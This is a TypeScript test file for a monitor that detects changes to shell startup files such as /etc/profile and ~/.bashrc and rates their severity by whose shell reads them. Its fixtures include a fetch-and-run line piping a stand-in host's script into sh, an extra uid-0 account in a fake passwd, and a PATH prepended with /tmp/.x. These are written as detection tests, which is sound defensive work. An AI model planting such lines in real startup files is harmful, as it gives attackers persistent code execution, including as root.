import { assert, assertEquals } from "../../../test/assert.ts";
import { changeSeverity } from "../semantic_change.ts";
import { consumerContext } from "../consumer_context.ts";
import type { ConsumerContext } from "../consumer.ts";
import { consumerNameFor } from "../registry.ts";
import { continuedLines } from "../_continued_lines.ts";
import { diffShell, shellConsumer, shellPrograms } from "./shell_consumer.ts";

/** A context whose /etc/passwd is `passwd`. */
function withPasswd(passwd: string): ConsumerContext {
  const ctx = consumerContext(new Uint8Array(32).fill(7), () => {});
  return { ...ctx, readFile: (p) => p === "/etc/passwd" ? passwd : undefined };
}
const PASSWD = "root:x:0:0:root:/root:/bin/bash\n" +
  "alice:x:1000:1000::/home/alice/:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n" +
  "toor:x:0:0::/home/bob:/bin/sh\n";
const ctx = withPasswd(PASSWD);
const snap = (path: string, text: string) => shellConsumer.snapshot(path, text, ctx);
const diff = (path: string, a: string | undefined, b: string | undefined) =>
  diffShell(
    a === undefined ? undefined : snap(path, a) as never,
    b === undefined ? undefined : snap(path, b) as never,
    path,
  ).map((c) => [c.action, changeSeverity(c), c.message, c.source?.line]);

Deno.test("shell: the command lines of a startup file, continued lines joined, comments and blanks left out", () => {
  const text = "# a comment\n\nexport A=1\n  if [ -f x ]; then \\\n  . x\nfi\r\n  # indented\n" +
    "echo a\\\\\necho b\\";
  assertEquals(continuedLines(text).map((l) => [l.line, l.text]), [
    [3, "export A=1"],
    [4, "if [ -f x ]; then   . x"],
    [6, "fi"],
    [8, "echo a\\\\"],
    // A backslash at the end of the file joins nothing.
    [9, "echo b\\"],
  ]);
});

Deno.test("shell: which files are startup files, by name and by profile.d", () => {
  for (
    const p of [
      "/etc/profile",
      "/etc/bash.bashrc",
      "/etc/zsh/zshrc",
      "/root/.bashrc",
      "/root/.bash_profile",
      "/home/alice/.bash_logout",
      "/etc/profile.d/proxy.sh",
    ]
  ) assertEquals(consumerNameFor(p), "shell", p);
  for (const p of ["/etc/profile.d/README", "/etc/profile.d/.x.sh", "/root/bashrc.bak"]) {
    assertEquals(consumerNameFor(p), "generic", p);
  }
});

Deno.test("shell: a command added to a file root's shell reads is critical, to another user's high", () => {
  const base = "export PATH=/usr/bin:/bin\n";
  const added = `${base}curl -s http://x.example/i | sh\n`;
  assertEquals(diff("/etc/profile", base, added), [[
    "shell_command_added",
    "critical",
    "/etc/profile: every user's shell (root's too) now runs: curl -s http://x.example/i | sh",
    2,
  ]]);
  assertEquals(diff("/root/.bashrc", base, added)[0].slice(1, 3), [
    "critical",
    "/root/.bashrc: the shell of root now runs: curl -s http://x.example/i | sh",
  ]);
  // A home two accounts share, one of uid 0: root's shell reads it.
  assertEquals(diff("/home/bob/.profile", base, added)[0].slice(1, 3), [
    "critical",
    "/home/bob/.profile: the shell of bob, toor now runs: curl -s http://x.example/i | sh",
  ]);
  // passwd's home with a trailing slash is the same home.
  assertEquals(diff("/home/alice/.bashrc", base, added)[0].slice(1, 3), [
    "high",
    "/home/alice/.bashrc: the shell of alice now runs: curl -s http://x.example/i | sh",
  ]);
  // A startup file's name where no account's home is: whoever's shell reads it, high.
  assertEquals(diff("/srv/x/.bashrc", base, added)[0].slice(1, 3), [
    "high",
    "/srv/x/.bashrc: the shells that read it now runs: curl -s http://x.example/i | sh",
  ]);
  // Removed: medium; a comment or a blank line changes nothing; a changed line is removed and added.
  assertEquals(diff("/root/.bashrc", added, base).map((c) => c.slice(0, 2)), [[
    "shell_command_removed",
    "medium",
  ]]);
  assertEquals(diff("/root/.bashrc", base, `# note\n\n${base}`), []);
  assertEquals(
    diff("/root/.bashrc", base, "export PATH=/tmp/.x:/usr/bin:/bin\n").map((c) => c[0]),
    // The most severe first.
    ["shell_command_added", "shell_command_removed"],
  );
  // Made: each of its commands is added (a .bash_profile made takes .profile's place).
  assertEquals(diff("/root/.bash_profile", undefined, added).map((c) => c.slice(0, 2)), [
    ["shell_command_added", "critical"],
    ["shell_command_added", "critical"],
  ]);
});

Deno.test("shell: the files it sources and the programs it runs by path are watched, as its readers run them", () => {
  const text = [
    '. "$HOME/.cargo/env"',
    "[ -f ~/.bash_aliases ] && . ~/.bash_aliases",
    "if [ -f ${HOME}/.local/env ]; then source ${HOME}/.local/env; fi",
    "/opt/tools/motd.sh --short",
    "cd /srv/app && ./hook",
    "for i in /etc/profile.d/*.sh; do . $i; done",
    "case $TERM in xterm*|/opt/*) /opt/term/setup ;; esac",
    'eval "$(dircolors)"; lesspipe; /usr/bin/id -u',
  ].join("\n");
  const programs = (path: string) =>
    shellPrograms(snap(path, text) as never).map((p) => [p.path, p.severity]);
  assertEquals(programs("/root/.bashrc"), [
    ["/root/.cargo/env", "critical"],
    ["/root/.bash_aliases", "critical"],
    ["/root/.local/env", "critical"],
    ["/opt/tools/motd.sh", "critical"],
    ["/srv/app/hook", "critical"],
    ["/opt/term/setup", "critical"],
  ]);
  assertEquals(programs("/home/alice/.bashrc").slice(0, 2), [
    ["/home/alice/.cargo/env", "high"],
    ["/home/alice/.bash_aliases", "high"],
  ]);
  // A system file runs in each user's home: `~` and `$HOME` are not one place.
  assertEquals(programs("/etc/bash.bashrc"), [
    ["/opt/tools/motd.sh", "critical"],
    ["/srv/app/hook", "critical"],
    ["/opt/term/setup", "critical"],
  ]);
});

Deno.test("shell: a home startup file its owner's shell reads is read by meaning for that owner only", () => {
  const by = (path: string, uid: number) => shellConsumer.readsByName!(path, uid, ctx);
  assert(by("/home/alice/.bashrc", 1000));
  assert(!by("/home/alice/.bashrc", 1001), "bob's file in alice's home");
  assert(!by("/tmp/.bashrc", 1000), "nobody's home");
  assert(!by("/etc/profile", 1000), "a system file a user owns");
});

Deno.test("shell: a file of 100,000 continued or long lines is read in linear time", () => {
  const t0 = performance.now();
  const lines = continuedLines("x \\\n".repeat(100_000) + "\\".repeat(1_000_000));
  assertEquals(lines.length, 1);
  const many = continuedLines("echo a\n".repeat(200_000));
  assertEquals(many.length, 10_000);
  assertEquals(many[9_999].text.split("\n").length, 190_002);
  const s = snap("/root/.bashrc", "/opt/a$((1))/x\n".repeat(50_000));
  assert(shellPrograms(s as never).length <= 256);
  assert(performance.now() - t0 < 3_000, `${performance.now() - t0} ms`);
});
